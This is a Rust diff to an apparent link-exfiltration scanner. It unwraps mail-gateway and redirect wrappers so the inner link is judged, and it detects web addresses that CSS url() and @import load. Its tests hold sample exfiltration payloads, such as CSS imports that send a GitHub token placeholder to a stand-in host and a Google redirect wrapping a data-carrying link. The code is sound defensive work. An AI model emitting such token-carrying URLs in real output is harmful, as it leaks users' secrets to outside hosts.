@@ -61,6 +61,29 @@ const LONG_PARAM_OK: &[&str] = &[
     "_hsenc",
     "_hsmi",
     "lang",
+    // Click and share ids of ad networks, mail tools and sites, as their
+    // own links carry them (a Jira mail's `atlOrigin` is base64 of JSON).
+    "dclid",
+    "gbraid",
+    "wbraid",
+    "ttclid",
+    "twclid",
+    "yclid",
+    "igshid",
+    "mibextid",
+    "li_fat_id",
+    "trackingid",
+    "mkt_tok",
+    "elqtrackid",
+    "ml_subscriber_hash",
+    "ck_subscriber_id",
+    "mc_cid",
+    "atlorigin",
+    "usg",
+    // An image CDN's own (Unsplash, imgix).
+    "ixid",
+    "ixlib",
+    "sxsrf",
 ];
 
 static MD_IMAGE: LazyLock<Matcher> = LazyLock::new(|| Matcher::by_pattern(patterns::LINKS_MD_IMAGE));
@@ -241,6 +264,59 @@ fn slots(piece: &str) -> impl Iterator<Item = &str> {
     })
 }
 
+/// Hosts (and paths) of link wrappers that mail gateways and sites put
+/// around every link they pass on, with the parameter that holds the link:
+/// Microsoft's Safe Links, Google's and Facebook's redirects, Proofpoint's
+/// URL Defense (v2), YouTube's, Slack's and Reddit's outbound redirects.
+const WRAPPERS: &[(&str, &str, &str)] = &[
+    (".safelinks.protection.outlook.com", "/", "url"),
+    ("www.google.com", "/url", "q"),
+    ("www.google.com", "/url", "url"),
+    ("google.com", "/url", "q"),
+    ("google.com", "/url", "url"),
+    ("l.facebook.com", "/l.php", "u"),
+    ("lm.facebook.com", "/l.php", "u"),
+    ("l.instagram.com", "/", "u"),
+    ("urldefense.proofpoint.com", "/v2/url", "u"),
+    ("www.youtube.com", "/redirect", "q"),
+    ("slack-redir.net", "/link", "url"),
+    ("out.reddit.com", "/", "url"),
+];
+
+/// The link a known wrapper holds, percent-decoded (Proofpoint's v2
+/// spelling, `-` for `%` and `_` for `/`, undone), when `url` is one.
+fn wrapped_target(authority: &str, url: &str, query: &str) -> Option<String> {
+    if query.is_empty() {
+        return None;
+    }
+    let host = authority.rsplit('@').next()?.split(':').next()?;
+    let after = &url[url.find("://")? + 3..];
+    let path = &after[after.find(['/', '?']).unwrap_or(after.len())..];
+    let path = path.split('?').next().unwrap_or("");
+    let (_, _, key) = WRAPPERS.iter().find(|(h, p, k)| {
+        let host_ok = if h.starts_with('.') {
+            host.len() > h.len()
+                && host.is_char_boundary(host.len() - h.len())
+                && host[host.len() - h.len()..].eq_ignore_ascii_case(h)
+        } else {
+            host.eq_ignore_ascii_case(h)
+        };
+        let path_ok = if *p == "/" { path.is_empty() || path == "/" } else { path.eq_ignore_ascii_case(p) };
+        host_ok && path_ok && query.split('&').any(|pair| pair.split_once('=').is_some_and(|(n, _)| n == *k))
+    })?;
+    let value = query.split('&').find_map(|pair| pair.split_once('=').filter(|(n, _)| n == key).map(|(_, v)| v))?;
+    let value = if host.get(..11).is_some_and(|h| h.eq_ignore_ascii_case("urldefense.")) {
+        std::borrow::Cow::Owned(value.replace('-', "%").replace('_', "/"))
+    } else {
+        std::borrow::Cow::Borrowed(value)
+    };
+    let target = percent_encoding::percent_decode_str(&value).decode_utf8_lossy().into_owned();
+    // Only a link goes on (anything else is judged as the wrapper's query),
+    // and only a shorter one: a wrapper in a wrapper ends.
+    let lower = target.to_ascii_lowercase();
+    ((lower.starts_with("http://") || lower.starts_with("https://")) && target.len() < url.len()).then_some(target)
+}
+
 /// A `data:` link to media a page shows or plays as it is (an image, a
 /// sound, a film, a font). Any other type (a page, a script, text, a
 /// table, an archive, none) carries content of its own that the reader
@@ -320,6 +396,12 @@ fn judge(url: &str, auto_loads: bool) -> Option<(Severity, &'static str, String)
     }
     let query = url.split_once('?').map(|(_, q)| q).unwrap_or("");
     let query = query.split('#').next().unwrap_or("");
+    // A mail gateway's or a site's link wrapper: its own parameters (a
+    // signature, a tenant's record) go to the wrapper, the reader goes on
+    // to the link it holds, which is what is judged.
+    if let Some(target) = wrapped_target(authority, url, query) {
+        return judge(&target, auto_loads);
+    }
     for pair in query.split('&') {
         let (k, v) = pair.split_once('=').unwrap_or(("", pair));
         let k = k.to_ascii_lowercase();
@@ -670,7 +752,45 @@ pub(crate) fn judge_target(url: &str, loads: bool) -> Option<Hit> {
 
 /// Attributes whose link a browser or a mail client loads by itself.
 const LOADING_ATTRIBUTES: &[&str] =
-    &["src", "srcset", "poster", "background", "lowsrc", "data-src", "data-srcset", "data"];
+    &["src", "srcset", "poster", "background", "lowsrc", "data-src", "data-srcset", "data", "style"];
+
+/// The web addresses a style sheet or a `style` attribute loads: each
+/// `url(…)` (quoted or not) and `@import "…"` whose target starts with
+/// `http://` or `https://`, with where the address is written.
+pub(crate) fn css_urls(css: &str) -> Vec<(std::ops::Range<usize>, &str)> {
+    let b = css.as_bytes();
+    let mut out = Vec::new();
+    // One pass over `(` and `@`: `url(` in any case, `@import`.
+    let starts = memchr::memchr2_iter(b'(', b'@', b).filter_map(|i| match b[i] {
+        b'(' if i >= 3 && b[i - 3..i].eq_ignore_ascii_case(b"url") => Some(i + 1),
+        b'@' if b.get(i + 1..i + 7).is_some_and(|w| w.eq_ignore_ascii_case(b"import")) => Some(i + 7),
+        _ => None,
+    });
+    for from in starts {
+        let rest = &css[from..];
+        let lead = rest.len() - rest.trim_start().len();
+        let rest = rest.trim_start();
+        let (quote, body) = match rest.as_bytes().first() {
+            Some(&q @ (b'"' | b'\'')) => (Some(q as char), &rest[1..]),
+            _ => (None, rest),
+        };
+        if !(body.get(..7).is_some_and(|h| h.eq_ignore_ascii_case("http://"))
+            || body.get(..8).is_some_and(|h| h.eq_ignore_ascii_case("https://")))
+        {
+            continue;
+        }
+        let end = match quote {
+            Some(q) => body.find(q),
+            None => body.find(|c: char| c == ')' || c.is_whitespace()),
+        }
+        .unwrap_or(body.len())
+        .min(4096);
+        let end = body.floor_char_boundary(end);
+        let at = from + lead + usize::from(quote.is_some());
+        out.push((at..at + end, &body[..end]));
+    }
+    out
+}
 
 /// Does the link written at `at` in markup stand in an attribute that
 /// loads it by itself (`<img src=…>`, a `srcset` candidate)? The attribute
@@ -760,6 +880,10 @@ pub(crate) fn scan(text: &str, out: &mut dyn FnMut(Hit)) {
             let m = c.get(0).expect("match");
             add(m.range(), &c[1], true, &mut hits);
         }
+    }
+    // What a style sheet loads (`@import url(…)`, a `background: url(…)`).
+    for (range, url) in css_urls(text) {
+        add(range, url, true, &mut hits);
     }
     let img_tag = memchr::memchr_iter(b'<', bytes).any(|i| {
         bytes.get(i + 1..i + 4).is_some_and(|w| w.eq_ignore_ascii_case(b"img"))
@@ -996,6 +1120,41 @@ mod tests {
             assert_eq!(rule(url), Some(want), "{url:?}");
         }
         assert_eq!(rule("da\nta:image/png;base64,iVBORw0KGgo="), None);
+    }
+
+    #[test]
+    fn what_a_style_sheet_loads_is_judged_as_an_image_is() {
+        for css in [
+            "<style>@import url('https://css.x.test/t.css?d=<GITHUB_TOKEN>');</style>",
+            "@import \"https://css.x.test/t.css?d=<GITHUB_TOKEN>\";",
+            "p { background: URL(https://css.x.test/p.png?d=<GITHUB_TOKEN>) }",
+        ] {
+            assert_eq!(rules(css), ["exfiltration.templated_url"], "{css}");
+        }
+        assert!(rules("p { background: url(https://cdn.example/hero.jpg) } @import url(/local.css);").is_empty());
+        assert_eq!(
+            css_urls("a{b:url( \"https://a.example/x\" )}").iter().map(|r| r.1).collect::<Vec<_>>(),
+            ["https://a.example/x"]
+        );
+    }
+
+    #[test]
+    fn a_link_wrapper_is_judged_by_the_link_it_holds() {
+        let rule = |url: &str| judge(url, false).map(|(_, r, _)| r);
+        let safe = "https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.com%2Freport&data=05%7C02%7Cjane%40contoso.example%7C3f1e2d4c5b6a79880c9d08dc1a2b3c4d%7C0%7C638412345678901234%7CUnknown%7CTWFpbGZsb3d8eyJWIjoiMC4wLjAwMDAiLCJQIjoiV2luMzIifQ%3D%3D%7C0%7C%7C%7C&sdata=Qm9ndXNTaWduYXR1cmVWYWx1ZUZvclRlc3Rpbmc%3D&reserved=0";
+        let google = "https://www.google.com/url?q=https://www.ons.example/economy&sa=D&source=editors&ust=1741170000000000&usg=bMVxYZBVeMVyJenNCPaJvMgHrCBD";
+        let proofpoint = "https://urldefense.proofpoint.com/v2/url?u=https-3A__www.example.com_page&d=DwMFaQ&c=euGZstcaTDllvimEN8b7jXrwqOf-v5A_CdpgnVfiiMM&r=QmFzZTY0U2lnbmF0dXJlVmFsdWVGb3JUZXN0aW5nMTIz&m=bWFjVmFsdWVGb3JUZXN0aW5nUHVycG9zZXNPbmx5MTIz&s=c2lnbmF0dXJlVmFsdWVGb3JUZXN0aW5nUHVycG9zZXM&e=";
+        for url in [safe, google, proofpoint] {
+            assert_eq!(rule(url), None, "{url}");
+        }
+        // What the wrapped link carries still counts, and so do the same
+        // parameters on a host that wraps nothing.
+        let carried = "https://www.google.com/url?q=https%3A%2F%2Fcollect.test%2Fc%3Fd%3DU2VjcmV0S2V5VmFsdWVGb3JUaGVUZXN0cw&usg=AOvVaw0b";
+        assert_eq!(rule(carried), Some("exfiltration.data_in_url"));
+        let elsewhere = safe.replace("outlook.com/", "outlook.com.collect.test/");
+        assert_eq!(rule(&elsewhere), Some("exfiltration.data_in_url"));
+        let other_path = safe.replace(".com/?url", ".com/go?url");
+        assert_eq!(rule(&other_path), Some("exfiltration.data_in_url"));
     }
 
     #[test]
